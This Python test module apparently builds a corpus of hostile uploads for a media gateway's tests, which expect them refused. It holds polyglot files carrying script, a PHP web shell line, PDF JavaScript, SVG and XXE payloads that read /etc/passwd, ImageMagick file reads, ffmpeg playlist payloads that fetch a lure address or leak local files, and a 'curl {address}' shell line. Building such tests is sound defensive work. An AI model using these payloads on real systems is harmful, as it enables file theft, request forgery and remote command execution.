"""Files that are two things at once, or talk players and browsers into opening others."""
import zipfile
from collections.abc import Iterable
from io import BytesIO

from tests.corpus.bombs import chunk, png, segment, within
from tests.corpus.lures import ENDINGS, REFUSALS, Hostile, Lure, each
from tests.corpus.papers import PDF
from tests.corpus.workshop import FOLDER, ffmpeg, small
from tests.gateways.media import pictures

SCRIPT = b"<html><body><script>alert(document.cookie)</script></body></html>"
ACTION = b"/OpenAction<</S/JavaScript/JS(app.x)>>"
PHP = b"<?php system($_GET['c']); ?>"
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'
LISTS = {
    "hls": "#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n{neighbour}\n#EXT-X-ENDLIST\n",
    "hls-address": "#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n{address}/part.ts\n#EXT-X-ENDLIST\n",
    "hls-key": '#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="{address}/key"\n#EXTINF:9,\nfile://{neighbour}\n',
    "hls-concat": "#EXTM3U\n#EXTINF:9,\nconcat:{address}/a?|file://{neighbour}\n#EXT-X-ENDLIST\n",
    "hls-marked": "\ufeff#EXTM3U\n#EXTINF:9,\n{neighbour}\n", "hls-late": "\n\n  #EXTM3U\n#EXTINF:9,\n{neighbour}\n",
    "ffconcat": "ffconcat version 1.0\nfile '{neighbour}'\nfile '{address}/next.mp4'\n", "concat": "file '{neighbour}'\n",
    "dash": '<?xml version="1.0"?><MPD type="static" mediaPresentationDuration="PT9S"><Period><AdaptationSet mimeType="video/mp4">'
            '<Representation id="1"><BaseURL>{address}/film.mp4</BaseURL></Representation></AdaptationSet></Period></MPD>',
    "sdp": "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video 9 RTP/AVP 96\na=rtpmap:96 H264/90000\n",
    "pls": "[playlist]\nFile1={neighbour}\nNumberOfEntries=1\n", "m3u": "{neighbour}\n{address}/a.mp3\n",
    "asx": '<ASX version="3.0"><Entry><Ref href="{address}/a.wmv"/></Entry></ASX>', "rtsptext": "RTSPtext\n{address}/film\n",
    "smil": '<smil><body><video src="{address}/a.mp4"/></body></smil>', "url": "[InternetShortcut]\nURL={address}\n",
    "edl": "# mpv EDL v0\n{neighbour},0,9\n", "avisynth": 'FFVideoSource("{neighbour}")\n',
    "metadata": ";FFMETADATA1\ntitle={neighbour}\n",
    "graph": "movie={neighbour}[out0]", "cue": 'FILE "{neighbour}" WAVE\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n',
    "pattern": "%03d.jpg\n",
}
FRONTS = {                     # so that the first bytes look like what the kind takes
    "song-tag": ("song", b"ID3\x03\0\0\0\0\0\0"), "song-frame": ("song", b"\xff\xfb\x90\x64"), "song-adts": ("song", b"\xff\xf1\x50\x80"),
    "song-flac": ("song", b"fLaC"), "song-ogg": ("song", b"OggS\0\x02"), "song-wave": ("song", b"RIFF\xff\xff\0\0WAVE"),
    "film-mp4": ("video", b"\0\0\0\x18ftypisom\0\0\x02\0isommp42"), "film-mov": ("video", b"\0\0\0\x08wide"),
    "photo-jpeg": ("photo", b"\xff\xd8\xff\xe0\0\x10"), "photo-png": ("photo", b"\x89PNG\r\n\x1a\n"),
}
MARKUP = {
    "svg-script": SVG.format("<script>alert(1)</script>"), "svg-load": SVG.format("").replace("<svg", "<svg onload='alert(1)'"),
    "svg-file": SVG.format('<image xlink:href="file:///etc/passwd"/>'), "svg-use": SVG.format('<use xlink:href="{address}/x.svg#a"/>'),
    "xxe": '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + SVG.format("<text>&x;</text>"),
    "entities": '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>' + SVG.format("&b;"),
    "msl": '<?xml version="1.0"?><image><read filename="/etc/passwd"/></image>', "postscript": "%!PS\n(/etc/passwd) (r) file\n",
    "mvg": "push graphic-context\nimage over 0,0 0,0 'url({address})'\n", "html": SCRIPT.decode(),
    "mhtml": "MIME-Version: 1.0\n\n" + SCRIPT.decode(),
    "shell": "#!/bin/sh\ncurl {address}\n",
}


def polyglots(_: Lure) -> Iterable[Hostile]:
    jpeg, zipped = small("jpg"), archive()
    yield from each("photo", {
        "jpeg-and-page": jpeg + SCRIPT, "jpeg-and-archive": jpeg + zipped, "jpeg-and-program": jpeg + b"MZ" + bytes(300),
        "jpeg-note-of-script": within(jpeg, segment(0xFE, SCRIPT)), "jpeg-note-of-php": within(jpeg, segment(0xFE, PHP)),
        "jpeg-xmp-of-script": within(jpeg, segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + SCRIPT)),
        "jpeg-note-of-pdf": within(jpeg, segment(0xFE, PDF)), "jpeg-twice": jpeg + jpeg, "jpeg-and-film": jpeg + small("mp4"),
        "png-and-page": small("png") + SCRIPT, "png-words-of-script": png(chunk(b"tEXt", b"Comment\0" + SCRIPT)),
        "png-foreign-chunk": png(chunk(b"scRp", SCRIPT)), "webp-and-page": small("webp") + SCRIPT,
        "heic-and-page": small("heic") + SCRIPT,
        "webp-xmp-of-script": pictures.encoded(pictures.corners(), "WEBP", xmp=SCRIPT)})
    yield from each("photo", {"page-and-jpeg": SCRIPT + jpeg, "bmp-and-script": b"BM/*" + SCRIPT,
                              "gif-and-script": b"GIF89a/*\0\0" + SCRIPT,
                              "program-and-jpeg": b"\x7fELF" + bytes(60) + jpeg, "archive-and-jpeg": zipped + jpeg,
                              "pdf-and-jpeg": PDF + jpeg}, REFUSALS)
    yield from each("video", {"mp4-and-page": small("mp4") + SCRIPT,
                              "mp4-with-title": titled("mp4"),
                              "page-in-brand": b"\0\0\0\x18ftyp<html><script>alert(1)</script>"})
    yield from each("song", {"mp3-and-page": small("mp3") + SCRIPT, "mp3-and-archive": small("mp3") + zipped,
                             "mp3-with-title": titled("mp3"),
                             "wav-and-page": small("wav") + SCRIPT})
    yield from each("document", {"pdf-and-page": PDF + SCRIPT, "pdf-with-script": PDF.replace(b"/Pages", ACTION),
                                 "pdf-and-archive": PDF + zipped, "jpeg-and-page": jpeg + SCRIPT, "archive-and-page": zipped + SCRIPT})


def archive() -> bytes:
    buffer = BytesIO()
    with zipfile.ZipFile(buffer, "w") as written:
        written.writestr("page.html", SCRIPT)
    return buffer.getvalue()


def titled(name: str) -> bytes:
    """A page in its title, its author and its cover's words."""
    words = [word for key in ("title", "artist", "comment") for word in ("-metadata", f"{key}={SCRIPT.decode()}")]
    small(name)
    return ffmpeg(FOLDER / f"titled.{name}", "-i", str(FOLDER / f"small.{name}"), "-c", "copy", *words).read_bytes()


def playlists(lure: Lure) -> Iterable[Hostile]:
    """Every list under the ending of every kind, then behind the first bytes of something else."""
    for name, words in LISTS.items():
        content = words.format(neighbour=lure.neighbour, address=lure.address).encode()
        yield from (Hostile(f"{kind}-{name}", kind, content, REFUSALS) for kind in ENDINGS)
    for front, (kind, magic) in FRONTS.items():
        for name in ("hls", "concat"):
            content = magic + b"\n" + LISTS[name].format(neighbour=lure.neighbour, address=lure.address).encode()
            yield Hostile(f"{front}-{name}", kind, content, REFUSALS)


def markup(lure: Lure) -> Iterable[Hostile]:
    for kind in ("photo", "document", "video"):
        yield from each(kind, {name: words.replace("{address}", lure.address).encode() for name, words in MARKUP.items()}, REFUSALS)
